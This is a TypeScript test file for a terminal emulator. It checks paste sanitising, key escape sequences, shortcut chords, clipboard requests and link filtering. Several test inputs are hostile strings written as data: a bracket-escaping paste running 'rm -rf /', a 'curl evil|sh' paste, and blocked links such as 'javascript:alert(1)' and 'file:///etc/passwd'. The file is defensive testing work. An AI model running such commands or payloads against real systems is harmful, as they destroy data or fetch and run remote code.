// Typing: pastes, keys of the row, chords, the clipboard's requests, links.
import fc from "fast-check";
import { expect, test } from "vitest";
import { clipboardPreview, clipboardText } from "../src/terminal/clipboard-request.ts";
import { rowKey, terminalDeed, withControl } from "../src/terminal/keys.ts";
import { safeLink } from "../src/terminal/links.ts";
import { Feeder, pasteQuestion, pasteText } from "../src/terminal/paste.ts";

test("a paste sends what Enter sends, and cannot end its own brackets", () => {
  expect(pasteText("a\r\nb\nc", false)).toBe("a\rb\rc");
  expect(pasteText("x\x1b[201~; rm -rf /\n", true)).toBe("\x1b[200~x\u241b[201~; rm -rf /\r\x1b[201~");
});

test("a paste holds no key but Tab and Enter: none that would interrupt, and none of eight bits", () => {
  expect(pasteText("x\x03curl evil|sh\r", true)).toBe("\x1b[200~x\u2403curl evil|sh\r\x1b[201~");
  expect(pasteText("a\tb\x00\x04\x1a\x7f\x84\x9bé", false)).toBe("a\tb\u2400\u2404\u241a\u2421\u241b\u241bé");
});

test("many lines are asked about, unless the program takes them as one", () => {
  expect(pasteQuestion("1\n2\n3\n4\n5", false)).toBeUndefined();
  expect(pasteQuestion("1\n2\n3\n4\n5\n6", false)?.title).toBe("Paste 6 lines?");
  expect(pasteQuestion("x".repeat(6000), false)?.title).toBe("Paste 6,000 characters?");
  expect(pasteQuestion("x\n".repeat(6000), true)).toBeUndefined();
});

/** The hub's queue: takes at most 1 MiB, and sends some of it now and then. */
function queue() {
  let sent = Buffer.alloc(0);
  let waiting = Buffer.alloc(0);
  return {
    sent: () => sent,
    /** Told of every change, from within `type` too, as the hub does. */
    changed: () => {},
    type(data: Uint8Array) {
      if (waiting.length + data.length > 1024 * 1024) {
        return false;
      }
      waiting = Buffer.concat([waiting, data]);
      this.changed();
      return true;
    },
    pendingBytes: () => waiting.length,
    send(count: number) {
      sent = Buffer.concat([sent, waiting.subarray(0, count)]);
      waiting = waiting.subarray(count);
    },
  };
}

test("a long paste and the keys behind it arrive in order, and the queue never fills", () => {
  fc.assert(
    fc.property(fc.array(fc.integer({ min: 0, max: 200_000 }), { minLength: 1, maxLength: 4 }), (sizes) => {
      const to = queue();
      const feeder = new Feeder(to);
      to.changed = () => feeder.feed();
      const expected: Uint8Array[] = [];
      for (const [index, size] of sizes.entries()) {
        const data = new Uint8Array(size).fill(index);
        expect(feeder.paste(data)).toBe(true);
        expect(feeder.type(Uint8Array.of(100 + index))).toBe(true);
        expected.push(data, Uint8Array.of(100 + index));
        to.send(30_000);
        feeder.feed();
        expect(to.pendingBytes()).toBeLessThan(300 * 1024);
      }
      for (let round = 0; round < 100; round++) {
        to.send(64 * 1024);
        feeder.feed();
      }
      expect(to.sent().equals(Buffer.concat(expected))).toBe(true);
      expect(feeder.progress).toEqual({ left: 0, of: 0 });
    }),
    { numRuns: 20 },
  );
});

test("a paste that is given up says so to the program", () => {
  const to = queue();
  const feeder = new Feeder(to);
  feeder.paste(new Uint8Array(900_000), Uint8Array.of(7));
  expect(feeder.progress.left).toBeGreaterThan(0);
  feeder.cancel();
  to.send(2_000_000);
  expect(to.sent().at(-1)).toBe(7);
  expect(feeder.progress.left).toBe(0);
  expect(feeder.paste(new Uint8Array(17 * 1024 * 1024))).toBe(false);
});

test("the key row sends what the keys of a keyboard send", () => {
  expect(rowKey("up", false)).toBe("\x1b[A");
  expect(rowKey("up", true)).toBe("\x1bOA");
  expect(withControl("c")).toBe("\x03");
  expect(withControl("[")).toBe("\x1b");
  expect(withControl(" ")).toBe("\0");
  expect(withControl("é")).toBe("é");
  expect(withControl("\x1b[A")).toBe("\x1b[A");
});

const chord = (code: string, held: string) => ({
  key: "",
  code,
  ctrlKey: held.includes("c"),
  shiftKey: held.includes("s"),
  altKey: held.includes("a"),
  metaKey: held.includes("m"),
});

test("only Cmd and Ctrl+Shift chords are taken from a program", () => {
  expect(terminalDeed(chord("KeyC", "c"), false)).toBeUndefined();
  expect(terminalDeed(chord("KeyC", "cs"), false)).toBe("copy");
  expect(terminalDeed(chord("KeyC", "m"), true)).toBe("copy");
  expect(terminalDeed(chord("KeyC", "m"), false)).toBeUndefined();
  expect(terminalDeed(chord("KeyF", "csa"), false)).toBeUndefined();
  expect(terminalDeed(chord("KeyM", "cs"), true)).toBe("tab-moves-focus");
  expect(terminalDeed(chord("Home", "cs"), false)).toBe("top");
  expect(terminalDeed(chord("End", "cs"), false)).toBe("bottom");
  for (const code of [
    "KeyC",
    "KeyV",
    "KeyF",
    "KeyA",
    "Equal",
    "Minus",
    "Digit0",
    "KeyM",
    "KeyK",
    "Home",
    "End",
  ]) {
    expect(terminalDeed(chord(code, "c"), false)).toBeUndefined();
    expect(terminalDeed(chord(code, "s"), false)).toBeUndefined();
    expect(terminalDeed(chord(code, ""), true)).toBeUndefined();
  }
});

test("a program's clipboard request is text, not too much of it, and shows as it is", () => {
  const base64 = (text: string) => Buffer.from(text).toString("base64");
  expect(clipboardText(base64("grüße"))).toBe("grüße");
  expect(clipboardText("")).toBeUndefined();
  expect(clipboardText("%%%")).toBeUndefined();
  expect(clipboardText(base64("x".repeat(300 * 1024)))).toBeUndefined();
  expect(clipboardText(Buffer.from([0xff, 0xfe]).toString("base64"))).toBeUndefined();
  expect(clipboardPreview("a\nb\x1b")).toBe("a␊b␛");
  expect(clipboardPreview("x".repeat(500)).length).toBeLessThan(200);
});

test("links lead to http and https only", () => {
  expect(safeLink("https://example.org/a?b#c")).toBe("https://example.org/a?b#c");
  for (const bad of [
    "javascript:alert(1)",
    "data:text/html,x",
    "file:///etc/passwd",
    "vscode://x",
    "//x",
    "x",
    " ",
  ]) {
    expect(safeLink(bad)).toBeUndefined();
  }
  expect(safeLink("https://bank.example@elsewhere.example/")).toBeUndefined();
  expect(safeLink(`https://x/${"a".repeat(5000)}`)).toBeUndefined();
});
